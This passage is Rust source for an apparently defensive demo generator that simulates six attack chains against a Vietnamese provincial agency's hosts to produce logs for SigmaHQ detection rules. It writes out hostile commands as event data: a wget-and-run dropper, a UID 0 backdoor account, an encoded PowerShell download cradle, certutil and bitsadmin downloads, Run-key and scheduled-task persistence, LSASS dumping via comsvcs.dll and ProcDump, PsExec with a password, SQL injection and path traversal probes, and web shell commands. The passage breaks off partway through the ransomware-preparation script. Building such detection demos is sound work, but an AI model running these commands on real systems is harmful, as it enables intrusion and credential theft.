//! The attack stories hidden in the demo day, each a coherent chain on one agency's hosts.
//!
//! [`attack_stories`] describes them (in Vietnamese and English, with ATT&CK techniques and
//! the SigmaHQ rules that catch them) so a console can explain what the demo shows. Attacker
//! infrastructure uses the documentation address ranges (RFC 5737) and a fictional
//! look-alike domain, so the demo never points at a real third party.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use chrono::{DateTime, Duration, Utc};
use rand::rngs::StdRng;
use rand::Rng;
use std::fmt;
use std::net::Ipv4Addr;

use crate::clock::{after, Day};
use crate::content::pick;
use crate::linux::{Daemon, SshClient};
use crate::province::{Agency, Host, Inventory, Site, AD_DNS_DOMAIN, AD_DOMAIN, PORTAL_SITE};
use crate::timeline::Timeline;
use crate::web::Request;
use crate::windows::{Account, Logon, LogonKind, Proc};

/// One attack story of the demo day.
pub struct Story {
    /// Stable identifier, e.g. `phishing-macro`; [`crate::LabelledEvent::story`] uses it.
    pub id: &'static str,
    pub title_vi: &'static str,
    pub title_en: &'static str,
    pub summary_vi: &'static str,
    pub summary_en: &'static str,
    /// MITRE ATT&CK technique ids, in the order the story uses them.
    pub techniques: &'static [&'static str],
    /// Ids of the SigmaHQ rules (corpus `sigma/rules`) that fire on the story's events.
    pub rule_ids: &'static [&'static str],
    /// Position of the agency in [`crate::DemoConfig::agencies`] (wrapping); 0 is the hub.
    pub agency_slot: usize,
    /// Local time (UTC+7) around which the story starts, as (hour, minute).
    pub starts_around: (u32, u32),
    play: fn(&mut Scene<'_>),
}

impl Story {
    /// The agency this story happens at, for a given agency list.
    pub fn agency<'a>(&self, agencies: &'a [Agency]) -> &'a Agency {
        &agencies[self.agency_slot % agencies.len()]
    }
}

impl fmt::Debug for Story {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Story")
            .field("id", &self.id)
            .field("techniques", &self.techniques)
            .finish_non_exhaustive()
    }
}

/// Every attack story of the demo day, in the order they start.
pub fn attack_stories() -> &'static [Story] {
    &STORIES
}

/// The SigmaHQ rule ids the demo day is built to trigger: every story's rules, sorted.
pub fn expected_rule_ids() -> Vec<&'static str> {
    let mut ids: Vec<&'static str> = STORIES
        .iter()
        .flat_map(|s| s.rule_ids.iter().copied())
        .collect();
    ids.sort_unstable();
    ids.dedup();
    ids
}

/// Plays every story into `timeline`, each with its own random stream.
pub(crate) fn play_all(timeline: &mut Timeline, inventory: &Inventory, day: &Day, seed: u64) {
    for story in &STORIES {
        timeline.set_story(Some(story.id));
        let mut rng = crate::stream(seed, story.id);
        let (hour, minute) = story.starts_around;
        let start = day.local(hour, minute) + Duration::seconds(rng.random_range(-1_200..1_200));
        let mut scene = Scene {
            timeline,
            inventory,
            site: inventory.site_at(story.agency_slot),
            rng,
            at: start,
        };
        (story.play)(&mut scene);
    }
    timeline.set_story(None);
}

/// What a story script works with: where it is, the clock, and its random stream.
struct Scene<'a> {
    timeline: &'a mut Timeline,
    inventory: &'a Inventory,
    site: &'a Site,
    rng: StdRng,
    at: DateTime<Utc>,
}

impl Scene<'_> {
    /// Moves the story's clock on by about `seconds` and returns the new time.
    fn wait(&mut self, seconds: i64) -> DateTime<Utc> {
        self.at = after(self.at, seconds, &mut self.rng);
        self.at
    }

    /// A random workstation of the story's agency.
    fn workstation(&mut self) -> &Host {
        let all = &self.site.workstations;
        &all[self.rng.random_range(0..all.len())]
    }

    /// An address in one of the RFC 5737 documentation networks.
    fn attacker_ip(&mut self, network: [u8; 3]) -> Ipv4Addr {
        Ipv4Addr::new(
            network[0],
            network[1],
            network[2],
            self.rng.random_range(20..240),
        )
    }

    /// `parent` starts a child process after about `seconds`.
    fn run(
        &mut self,
        host: &Host,
        parent: &Proc,
        seconds: i64,
        image: &str,
        command_line: &str,
    ) -> Proc {
        let at = self.wait(seconds);
        let child = parent.spawn(image, command_line, &mut self.rng);
        self.timeline.process_start(at, host, &child);
        child
    }
}

const SYSTEM32: &str = "C:\\Windows\\System32";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
/// The look-alike domain of the phishing operator's server.
const LOOKALIKE_DOMAIN: &str = "api.dichvucong-minhson.net";

/// A system tool's full path.
fn system32(file: &str) -> String {
    format!("{SYSTEM32}\\{file}")
}

/// `lsass.exe`, as a target of credential theft.
fn lsass(rng: &mut StdRng) -> Proc {
    Proc::root(
        &system32("lsass.exe"),
        &system32("lsass.exe"),
        Account::system(),
        "System",
        rng,
    )
}

/// The call stack of a handle to LSASS opened for a memory dump by `module`.
fn dump_call_trace(module: &str, offset: u32) -> String {
    format!(
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6c3a|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f22|{module}+{offset:x}|C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1"
    )
}

/// PowerShell's `-EncodedCommand` form of a script: base64 of its UTF-16LE bytes.
fn encode_command(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(utf16)
}

static STORIES: [Story; 6] = [
    Story {
        id: "rdp-password-spray",
        title_vi: "Dò mật khẩu Remote Desktop từ Internet",
        title_en: "Remote Desktop password spraying from the Internet",
        summary_vi: "Lúc rạng sáng, một địa chỉ nước ngoài thử vài mật khẩu phổ biến với hàng chục tài khoản trên máy chủ Remote Desktop của Văn phòng UBND tỉnh (hàng loạt sự kiện 4625). Một tài khoản văn thư dùng mật khẩu yếu bị đăng nhập thành công (4624 kiểu 10) và kẻ tấn công xem qua phiên làm việc.",
        summary_en: "Before dawn, a foreign address tries a few common passwords against dozens of accounts on the hub's Remote Desktop server (a burst of 4625). A clerk's weak password works (4624, logon type 10) and the attacker looks around the session.",
        techniques: &["T1110.003", "T1133", "T1078", "T1033"],
        rule_ids: &[],
        agency_slot: 0,
        starts_around: (1, 50),
        play: rdp_password_spray,
    },
    Story {
        id: "ssh-brute-force",
        title_vi: "Dò mật khẩu SSH và chiếm máy chủ web của xã",
        title_en: "SSH brute force and takeover of a commune web server",
        summary_vi: "Một máy từ Internet dò mật khẩu SSH trên máy chủ web Linux của UBND xã, đăng nhập được bằng tài khoản quản trị có mật khẩu yếu, dùng sudo tải và chạy mã độc trong /tmp rồi tạo tài khoản UID 0 để quay lại.",
        summary_en: "An Internet host guesses SSH passwords on the commune's Linux web server, gets in with a weak admin password, uses sudo to download and run malware from /tmp, and adds a UID 0 account to come back.",
        techniques: &["T1110.001", "T1078", "T1105", "T1059.004", "T1136.001"],
        rule_ids: &[],
        agency_slot: 5,
        starts_around: (3, 5),
        play: ssh_brute_force,
    },
    Story {
        id: "phishing-macro",
        title_vi: "Tài liệu tuyển sinh giả mạo chứa mã độc",
        title_en: "Malicious admissions document",
        summary_vi: "Một cán bộ Sở Giáo dục và Đào tạo mở tệp Word \"kế hoạch tuyển sinh\" nhận qua thư điện tử. Macro chạy PowerShell ẩn với lệnh mã hóa base64, tải thêm công cụ bằng certutil và bitsadmin, chạy chương trình cửa hậu rồi cài khóa Run và tác vụ định kỳ để tồn tại lâu dài.",
        summary_en: "A member of staff opens an \"admissions plan\" Word file from email. Its macro runs hidden PowerShell with a base64-encoded command, pulls tools with certutil and bitsadmin, starts a backdoor and persists through a Run key and a scheduled task.",
        techniques: &["T1566.001", "T1204.002", "T1059.001", "T1027", "T1105", "T1071.001", "T1547.001", "T1053.005"],
        rule_ids: &[],
        agency_slot: 3,
        starts_around: (9, 30),
        play: phishing_macro,
    },
    Story {
        id: "credential-theft-lateral",
        title_vi: "Đánh cắp thông tin đăng nhập và di chuyển ngang",
        title_en: "Credential theft and lateral movement",
        summary_vi: "Trên một máy trạm của Sở Y tế đã bị cài cửa hậu, kẻ tấn công dò quyền và nhóm quản trị miền, trích xuất bộ nhớ LSASS bằng comsvcs.dll, rồi dùng tài khoản quản trị lấy được chạy PsExec sang máy chủ tệp để trích xuất LSASS lần nữa bằng ProcDump.",
        summary_en: "On a backdoored workstation of the Department of Health, the attacker checks privileges and the domain admins, dumps LSASS memory through comsvcs.dll, then uses the stolen admin account with PsExec on the file server and dumps LSASS there with ProcDump.",
        techniques: &["T1033", "T1069.002", "T1018", "T1057", "T1003.001", "T1021.002", "T1569.002", "T1570"],
        rule_ids: &[],
        agency_slot: 2,
        starts_around: (13, 50),
        play: credential_theft_lateral,
    },
    Story {
        id: "web-portal-attack",
        title_vi: "Tấn công Cổng dịch vụ công và cài webshell",
        title_en: "Attack on the online public services portal and a web shell",
        summary_vi: "Một địa chỉ lạ quét Cổng dịch vụ công bằng Nikto, thử path traversal và SQL injection bằng sqlmap, sau đó lợi dụng chức năng đính kèm hồ sơ để tải lên webshell .aspx và chạy lệnh hệ thống qua tiến trình IIS (w3wp.exe).",
        summary_en: "An unknown address scans the online public services portal with Nikto, tries path traversal and SQL injection with sqlmap, then abuses the application attachment upload to plant an .aspx web shell and runs system commands through the IIS worker (w3wp.exe).",
        techniques: &["T1595.002", "T1190", "T1505.003", "T1059.003", "T1033", "T1016", "T1087.001"],
        rule_ids: &[],
        agency_slot: 0,
        starts_around: (14, 40),
        play: web_portal_attack,
    },
    Story {
        id: "ransomware-prep",
        title_vi: "Chuẩn bị mã hóa dữ liệu trên máy chủ tệp",
        title_en: "Ransomware preparation on a file server",
        summary_vi: "Buổi tối, tài khoản quản trị của Sở Tài chính đăng nhập Remote Desktop vào máy chủ tệp, tạo tài khoản cục bộ và thêm vào nhóm Administrators, tắt Microsoft Defender, xóa bản sao bóng (shadow copy), tắt chế độ khôi phục và xóa nhật ký sự kiện — các bước quen thuộc ngay trước khi mã hóa dữ liệu.",
        summary_en: "In the evening, the Department of Finance's admin account logs on to the file server over Remote Desktop, creates a local account and adds it to Administrators, disables Microsoft Defender, deletes shadow copies, disables recovery and clears the event logs: the usual steps right before encryption.",
        techniques: &["T1021.001", "T1078.002", "T1136.001", "T1098", "T1562.001", "T1490", "T1070.001"],
        rule_ids: &[],
        agency_slot: 4,
        starts_around: (22, 35),
        play: ransomware_prep,
    },
];

/// Usernames a sprayer tries that nobody in the province has.
const GUESSED_USERS: &[&str] = &[
    "administrator",
    "admin",
    "quantri",
    "ketoan",
    "vanthu",
    "test",
    "scanner",
    "backup",
    "user",
    "guest",
    "support",
    "it",
];

fn rdp_password_spray(scene: &mut Scene<'_>) {
    let (site, inventory) = (scene.site, scene.inventory);
    let Some(server) = site
        .remote_desktop
        .as_ref()
        .or(inventory.hub().remote_desktop.as_ref())
    else {
        return;
    };
    let attacker = scene.attacker_ip([198, 51, 100]);
    let machine = format!(
        "WIN-{:X}",
        scene.rng.random_range(0x1000_0000_u64..0xffff_ffff)
    );
    let staff: Vec<&Account> = inventory
        .workstations()
        .filter_map(|h| h.owner.as_ref())
        .collect();
    // Three rounds of one password each against every name on the list.
    for _round in 0..3 {
        for &name in GUESSED_USERS {
            let unknown = Account::new(AD_DOMAIN, name, "S-1-0-0");
            let logon = Logon::new(
                &unknown,
                LogonKind::NetworkNtlm,
                &attacker.to_string(),
                &machine,
                &mut scene.rng,
            );
            let at = scene.wait(4);
            scene
                .timeline
                .failed_logon(at, server, &logon, "0xc0000064");
        }
        for _ in 0..8 {
            let account = *pick(&staff, &mut scene.rng);
            let logon = Logon::new(
                account,
                LogonKind::NetworkNtlm,
                &attacker.to_string(),
                &machine,
                &mut scene.rng,
            );
            let at = scene.wait(4);
            scene
                .timeline
                .failed_logon(at, server, &logon, "0xc000006a");
        }
        scene.wait(300);
    }
    // A clerk's weak password works on the last round; the attacker comes back by RDP.
    let victim = *pick(&staff, &mut scene.rng);
    let logon = Logon::new(
        victim,
        LogonKind::RemoteInteractive,
        &attacker.to_string(),
        &machine,
        &mut scene.rng,
    );
    let at = scene.wait(420);
    scene
        .timeline
        .logon(at, server, &logon, false, &mut scene.rng);
    let desktop = Proc::explorer(victim, &mut scene.rng);
    let at = scene.wait(6);
    scene.timeline.process_start(at, server, &desktop);
    let shell = scene.run(
        server,
        &desktop,
        40,
        &system32("cmd.exe"),
        &format!("\"{}\" ", system32("cmd.exe")),
    );
    scene.run(
        server,
        &shell,
        8,
        &system32("whoami.exe"),
        "whoami  /groups",
    );
    scene.run(server, &shell, 15, &system32("quser.exe"), "quser");
}

fn ssh_brute_force(scene: &mut Scene<'_>) {
    let site = scene.site;
    let server = &site.web;
    let attacker = scene.attacker_ip([192, 0, 2]);
    let sshd = |rng: &mut StdRng| Daemon {
        program: "sshd",
        pid: rng.random_range(20_000..60_000),
    };
    let guesses = [
        "root", "root", "admin", "ubuntu", "root", "test", "oracle", "postgres", "git", "root",
        "user", "ftpuser", "www", "root", "deploy", "quantri", "root", "admin", "quantri", "root",
    ];
    for _ in 0..3 {
        for user in guesses {
            let client = SshClient {
                user,
                ip: attacker,
                port: scene.rng.random_range(32_768..60_999),
            };
            let at = scene.wait(3);
            let daemon = sshd(&mut scene.rng);
            scene.timeline.ssh_failed(
                at,
                server,
                daemon,
                client,
                matches!(user, "root" | "quantri"),
            );
        }
    }
    let daemon = sshd(&mut scene.rng);
    let client = SshClient {
        user: "quantri",
        ip: attacker,
        port: scene.rng.random_range(32_768..60_999),
    };
    let at = scene.wait(20);
    scene
        .timeline
        .ssh_accepted(at, server, daemon, client, "password", 1000);
    let sudo = |rng: &mut StdRng| Daemon {
        program: "sudo",
        pid: rng.random_range(20_000..60_000),
    };
    let at = scene.wait(50);
    let daemon = sudo(&mut scene.rng);
    let dropper = format!("/usr/bin/bash -c cd /tmp; wget http://{attacker}/bins/x86_64 -O .kworker; chmod +x .kworker; ./.kworker");
    scene
        .timeline
        .sudo(at, server, daemon, "quantri", 1000, &dropper);
    let at = scene.wait(40);
    let daemon = sudo(&mut scene.rng);
    scene.timeline.sudo(
        at,
        server,
        daemon,
        "quantri",
        1000,
        "/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadmin",
    );
    let useradd = Daemon {
        program: "useradd",
        pid: daemon.pid + 1,
    };
    scene.timeline.auth_line(
        at,
        server,
        useradd,
        "new user: name=sysadmin, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
    );
    let at = scene.wait(15);
    let passwd = Daemon {
        program: "passwd",
        pid: daemon.pid + 4,
    };
    scene.timeline.auth_line(
        at,
        server,
        passwd,
        "pam_unix(passwd:chauthtok): password changed for sysadmin",
    );
    let at = scene.wait(30);
    scene.timeline.auth_line(
        at,
        server,
        daemon,
        "pam_unix(sshd:session): session closed for user quantri",
    );
}

fn phishing_macro(scene: &mut Scene<'_>) {
    let victim = scene.workstation().clone();
    let user = victim.user().name.clone();
    let c2 = scene.attacker_ip([203, 0, 113]);
    let drop_dir = "C:\\Users\\Public\\Libraries\\MsEdge";
    let document = format!("C:\\Users\\{user}\\Downloads\\KH_tuyen_sinh_lop10_2025-2026.doc");

    // The attachment is saved from webmail and opened in Word.
    let at = scene.wait(0);
    scene
        .timeline
        .file_created(at, &victim, victim.browser(), &document);
    const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let word = scene.run(
        &victim,
        victim.shell(),
        35,
        WORD,
        &format!("\"{WORD}\" /n \"{document}\" /o \"\""),
    );

    // The macro starts hidden PowerShell with an encoded download cradle.
    let cradle = format!("$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $w.DownloadString('http://{c2}/tuyensinh/ks.ps1')");
    let powershell = scene.run(
        &victim,
        &word,
        14,
        POWERSHELL,
        &format!(
            "powershell.exe -NoP -NonI -W Hidden -Enc {}",
            encode_command(&cradle)
        ),
    );
    let at = scene.wait(1);
    scene
        .timeline
        .script_block(at, &victim, &cradle, "", &mut scene.rng);
    let at = scene.wait(1);
    scene
        .timeline
        .connection(at, &victim, &powershell, c2, 80, "-", &mut scene.rng);
    let stage_two = format!(
        "$d = \"$env:PUBLIC\\Libraries\\MsEdge\"\nNew-Item -ItemType Directory -Force -Path $d | Out-Null\ncertutil.exe -urlcache -split -f http://{c2}/tuyensinh/msedge.dat \"$d\\msedgeupd.exe\"\nbitsadmin /transfer edgeupd /priority foreground http://{c2}/tuyensinh/vcruntime.dat \"$d\\vcruntime140.dll\"\nStart-Process \"$d\\msedgeupd.exe\""
    );
    let at = scene.wait(2);
    scene
        .timeline
        .script_block(at, &victim, &stage_two, "", &mut scene.rng);

    // Tools arrive through two living-off-the-land downloaders.
    let certutil = scene.run(
        &victim,
        &powershell,
        3,
        &system32("certutil.exe"),
        &format!(
            "\"{}\" -urlcache -split -f http://{c2}/tuyensinh/msedge.dat {drop_dir}\\msedgeupd.exe",
            system32("certutil.exe")
        ),
    );
    let at = scene.wait(1);
    scene
        .timeline
        .connection(at, &victim, &certutil, c2, 80, "-", &mut scene.rng);
    let at = scene.wait(2);
    scene.timeline.file_created(
        at,
        &victim,
        &certutil,
        &format!("{drop_dir}\\msedgeupd.exe"),
    );
    scene.run(&victim, &powershell, 10, &system32("bitsadmin.exe"), &format!("\"{}\" /transfer edgeupd /priority foreground http://{c2}/tuyensinh/vcruntime.dat {drop_dir}\\vcruntime140.dll", system32("bitsadmin.exe")));

    // The backdoor starts and calls home to a look-alike of the portal's domain.
    let implant_path = format!("{drop_dir}\\msedgeupd.exe");
    let implant = scene.run(
        &victim,
        &powershell,
        20,
        &implant_path,
        &format!("\"{implant_path}\""),
    );
    let at = scene.wait(3);
    scene
        .timeline
        .dns_query(at, &victim, &implant, LOOKALIKE_DOMAIN, c2);
    let at = scene.wait(1);
    scene.timeline.connection(
        at,
        &victim,
        &implant,
        c2,
        443,
        LOOKALIKE_DOMAIN,
        &mut scene.rng,
    );

    // Persistence: a Run key and a scheduled task, both disguised as Edge updates.
    let shell = scene.run(&victim, &implant, 60, &system32("cmd.exe"), &format!("{} /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MicrosoftEdgeUpdateCore /t REG_SZ /d \"{implant_path}\" /f", system32("cmd.exe")));
    let reg = scene.run(&victim, &shell, 0, &system32("reg.exe"), &format!("reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MicrosoftEdgeUpdateCore /t REG_SZ /d \"{implant_path}\" /f"));
    let at = scene.wait(0);
    let run_key = format!(
        "HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MicrosoftEdgeUpdateCore",
        victim.user().sid
    );
    scene
        .timeline
        .registry_value_set(at, &victim, &reg, &run_key, &implant_path);
    let task = format!("{} /c schtasks /create /sc minute /mo 30 /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"{implant_path}\" /f", system32("cmd.exe"));
    let shell = scene.run(&victim, &implant, 40, &system32("cmd.exe"), &task);
    scene.run(&victim, &shell, 0, &system32("schtasks.exe"), &format!("schtasks  /create /sc minute /mo 30 /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"{implant_path}\" /f"));
}

fn credential_theft_lateral(scene: &mut Scene<'_>) {
    let victim = scene.workstation().clone();
    let server = scene.site.file_server.clone();
    let admin = scene.site.admin.clone();
    let tools = "C:\\ProgramData\\Intel\\GfxCache";
    let user = victim.user().clone();

    // A backdoor planted earlier runs elevated as the user; the operator opens a shell.
    let implant = Proc::root(
        &format!("{tools}\\igfxtray.exe"),
        &format!("\"{tools}\\igfxtray.exe\" -s"),
        user.clone(),
        "High",
        &mut scene.rng,
    );
    let cmd = system32("cmd.exe");
    let shell = scene.run(&victim, &implant, 0, &cmd, &format!("\"{cmd}\""));
    let shell = shell.in_dir(&format!("{tools}\\"));

    // Discovery: who am I, who are the domain admins, where are the domain controllers.
    scene.run(&victim, &shell, 20, &system32("whoami.exe"), "whoami  /all");
    let net = scene.run(
        &victim,
        &shell,
        25,
        &system32("net.exe"),
        "net  group \"domain admins\" /domain",
    );
    scene.run(
        &victim,
        &net,
        0,
        &system32("net1.exe"),
        "C:\\Windows\\system32\\net1  group \"domain admins\" /domain",
    );
    scene.run(
        &victim,
        &shell,
        30,
        &system32("nltest.exe"),
        &format!("nltest  /dclist:{AD_DNS_DOMAIN}"),
    );
    scene.run(
        &victim,
        &shell,
        40,
        &system32("tasklist.exe"),
        "tasklist  /fi \"imagename eq lsass.exe\"",
    );

    // LSASS memory through the comsvcs.dll MiniDump export, to a harmless-looking file.
    let victim_lsass = lsass(&mut scene.rng);
    let dump = format!("{tools}\\gfx_{}.tmp", scene.rng.random_range(100..999));
    let rundll = scene.run(
        &victim,
        &shell,
        35,
        &system32("rundll32.exe"),
        &format!(
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
            victim_lsass.pid
        ),
    );
    let at = scene.wait(0);
    scene.timeline.process_accessed(
        at,
        &victim,
        &rundll,
        &victim_lsass,
        "0x1fffff",
        &dump_call_trace("C:\\Windows\\System32\\comsvcs.dll", 0x3e2f4),
        &mut scene.rng,
    );
    let at = scene.wait(4);
    scene.timeline.file_created(at, &victim, &rundll, &dump);

    // With the IT officer's password from the dump: PsExec to the file server.
    let psexec = scene.run(&victim, &shell, 240, &format!("{tools}\\PsExec64.exe"), &format!("PsExec64.exe -accepteula \\\\{} -u {AD_DOMAIN}\\{} -p Syt@2024 -s cmd.exe /c \"C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\fs01.dmp\"", server.name, admin.name));
    let at = scene.wait(1);
    scene.timeline.connection(
        at,
        &victim,
        &psexec,
        server.ip,
        445,
        &server.fqdn(),
        &mut scene.rng,
    );
    let logon = Logon::new(
        &admin,
        LogonKind::NetworkNtlm,
        &victim.ip.to_string(),
        &victim.name,
        &mut scene.rng,
    );
    let at = scene.wait(0);
    scene
        .timeline
        .logon(at, &server, &logon, true, &mut scene.rng);
    let kernel = Proc::root("System", "-", Account::system(), "System", &mut scene.rng);
    let at = scene.wait(1);
    scene
        .timeline
        .file_created(at, &server, &kernel, "C:\\Windows\\PSEXESVC.exe");
    scene
        .timeline
        .file_created(at, &server, &kernel, "C:\\Windows\\Temp\\procdump64.exe");
    let at = scene.wait(1);
    scene.timeline.service_installed(
        at,
        &server,
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        "demand start",
    );
    let service = scene.run(
        &server,
        &server.services,
        1,
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
    );
    let remote_shell = scene.run(&server, &service, 1, &cmd, "\"cmd.exe\" /c \"C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\fs01.dmp\"");
    let procdump = scene.run(
        &server,
        &remote_shell,
        0,
        "C:\\Windows\\Temp\\procdump64.exe",
        "C:\\Windows\\Temp\\procdump64.exe  -accepteula -ma lsass.exe C:\\Windows\\Temp\\fs01.dmp",
    );
    let server_lsass = lsass(&mut scene.rng);
    let at = scene.wait(1);
    scene.timeline.process_accessed(
        at,
        &server,
        &procdump,
        &server_lsass,
        "0x1fffff",
        &dump_call_trace("C:\\Windows\\Temp\\procdump64.exe", 0x2c8e1),
        &mut scene.rng,
    );
    let at = scene.wait(5);
    scene
        .timeline
        .file_created(at, &server, &procdump, "C:\\Windows\\Temp\\fs01.dmp");
}

/// Paths Nikto asks for, with what the portal answers.
const SCAN_PATHS: &[(&str, u16)] = &[
    ("/", 200),
    ("/robots.txt", 200),
    ("/admin/", 404),
    ("/administrator/", 404),
    ("/phpmyadmin/", 404),
    ("/.git/config", 404),
    ("/.env", 404),
    ("/web.config", 404),
    ("/web.config.bak", 404),
    ("/backup.zip", 404),
    ("/dichvucong.zip", 404),
    ("/db.sql", 404),
    ("/wp-login.php", 404),
    ("/server-status", 404),
    ("/elmah.axd", 404),
    ("/trace.axd", 404),
    ("/test.aspx", 404),
    ("/uploads/", 403),
    ("/App_Data/", 404),
    ("/bin/", 404),
    ("/iisstart.htm", 404),
    ("/aspnet_client/", 403),
    ("/cgi-bin/test.cgi", 404),
    ("/login.aspx", 404),
];

/// sqlmap's probes of the case lookup parameter, URL-encoded as it sends them.
const SQLMAP_PROBES: &[(&str, u16)] = &[
    ("%27", 500),
    ("%27%20AND%205561%3D5561%20AND%20%27lTqb%27%3D%27lTqb", 200),
    ("%27%20AND%205561%3D1022%20AND%20%27lTqb%27%3D%27lTqb", 200),
    ("%27%20ORDER%20BY%201--%20-", 200),
    ("%27%20ORDER%20BY%204--%20-", 200),
    ("%27%20ORDER%20BY%206--%20-", 500),
    ("%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL%2CNULL%2CNULL--%20-", 200),
    ("%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x71766a7671%2C0x4d6a4b%2C0x716b787071%29%2CNULL%2CNULL%2CNULL--%20-", 200),
    ("%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x71766a7671%2CIFNULL%28CAST%28schema_name%20AS%20NCHAR%29%2C0x20%29%2C0x716b787071%29%2CNULL%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.SCHEMATA--%20-", 200),
    ("%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x71766a7671%2CIFNULL%28CAST%28table_name%20AS%20NCHAR%29%2C0x20%29%2C0x716b787071%29%2CNULL%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.TABLES%20WHERE%20table_schema%3D0x647663--%20-", 200),
];

/// Commands sent to the web shell: (query, program run through cmd.exe, its arguments).
const SHELL_COMMANDS: &[(&str, &str, &str)] = &[
    ("cmd=whoami", "whoami.exe", ""),
    ("cmd=ipconfig+%2Fall", "ipconfig.exe", " /all"),
    ("cmd=net+user", "net.exe", " user"),
    ("cmd=tasklist+%2Fv", "tasklist.exe", " /v"),
];

fn web_portal_attack(scene: &mut Scene<'_>) {
    let (site, inventory) = (scene.site, scene.inventory);
    let Some(portal) = site.portal.as_ref().or(inventory.hub().portal.as_ref()) else {
        return;
    };
    let attacker = scene.attacker_ip([203, 0, 113]);
    let request = |scene: &mut Scene<'_>,
                   seconds: i64,
                   method: &'static str,
                   stem: &str,
                   query: &str,
                   status: u16,
                   user_agent: &str| {
        let at = scene.wait(seconds);
        let request = Request {
            client: attacker,
            method,
            stem,
            query,
            status,
            user_agent,
            referer: "",
        };
        scene
            .timeline
            .web_request(at, portal, PORTAL_SITE, &request, &mut scene.rng);
    };

    // Reconnaissance with Nikto.
    for (test, (stem, status)) in SCAN_PATHS.iter().enumerate() {
        let user_agent = format!(
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06})",
            1000 + test * 37
        );
        request(scene, 2, "GET", stem, "", *status, &user_agent);
    }

    // Path traversal against the document download handler.
    const BROWSER: &str =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";
    for file in [
        "../../../../windows/win.ini",
        "../../../../../etc/passwd",
        "../../../../inetpub/wwwroot/dichvucong/web.config",
    ] {
        request(
            scene,
            40,
            "GET",
            "/tai-lieu/tai-ve.aspx",
            &format!("tep={file}"),
            500,
            BROWSER,
        );
    }

    // SQL injection with sqlmap on the case lookup page.
    let case = format!(
        "H39.25-250{}-{:04}",
        scene.rng.random_range(301..331),
        scene.rng.random_range(1..4000)
    );
    for (probe, status) in SQLMAP_PROBES {
        request(
            scene,
            6,
            "GET",
            "/tra-cuu-ho-so",
            &format!("ma_ho_so={case}{probe}"),
            *status,
            "sqlmap/1.8.4#stable (https://sqlmap.org)",
        );
    }

    // A web shell uploaded as a case attachment, then used to run commands.
    request(
        scene,
        300,
        "POST",
        "/nop-ho-so/tai-tep-dinh-kem",
        "",
        200,
        BROWSER,
    );
    let worker = portal.shell();
    let shell_file = "C:\\inetpub\\wwwroot\\dichvucong\\uploads\\tep-dinh-kem\\hd.aspx";
    let at = scene.wait(0);
    scene.timeline.file_created(at, portal, worker, shell_file);
    for (query, program, args) in SHELL_COMMANDS {
        request(
            scene,
            25,
            "GET",
            "/uploads/tep-dinh-kem/hd.aspx",
            query,
            200,
            BROWSER,
        );
        let command = format!("{}{args}", program.trim_end_matches(".exe"));
        let cmd = scene.run(
            portal,
            worker,
            0,
            &system32("cmd.exe"),
            &format!("cmd.exe /c {command}"),
        );
        scene.run(portal, &cmd, 0, &system32(program), &command);
    }
}

fn ransomware_prep(scene: &mut Scene<'_>) {
    let server = scene.site.file_server.clone();
    let admin = scene.site.admin.clone();
    let pivot = scene.workstation().clone();

    // The stolen admin account comes in over Remote Desktop from a compromised desk.
    let logon = Logon::new(
        &admin,
        LogonKind::RemoteInteractive,
        &pivot.ip.to_string(),
        &pivot.name,
        &mut scene.rng,
    );
    let at = scene.wait(0);
    scene
        .timeline
        .logon(at, &server, &logon, true, &mut scene.rng);
    let desktop = Proc::explorer(&admin, &mut scene.rng).run_as(admin.clone(), "High");
    let at = scene.wait(8);
    scene.timeline.process_start(at, &server, &desktop);
    let cmd = system32("cmd.exe");
    let shell = scene.run(&server, &desktop, 50, &cmd, &format!("\"{cmd}\""));

    // A local admin account to come back with.
    let backdoor = Account::local(&server, "hotro.it", 1003);
    let net = scene.run(
        &server,
        &shell,
        20,
        &system32("net.exe"),
        "net  user hotro.it Hotro@2025 /add",
    );
    scene.run(
        &server,
        &net,
        0,
        &system32("net1.exe"),
        "C:\\Windows\\system32\\net1  user hotro.it Hotro@2025 /add",
    );
    let at = scene.wait(0);
    scene.timeline.user_created(at, &server, &admin, &backdoor);
    let net = scene.run(
        &server,
        &shell,
        15,
        &system32("net.exe"),
        "net  localgroup administrators hotro.it /add",
    );
    scene.run(
        &server,
        &net,
        0,
        &system32("net1.exe"),
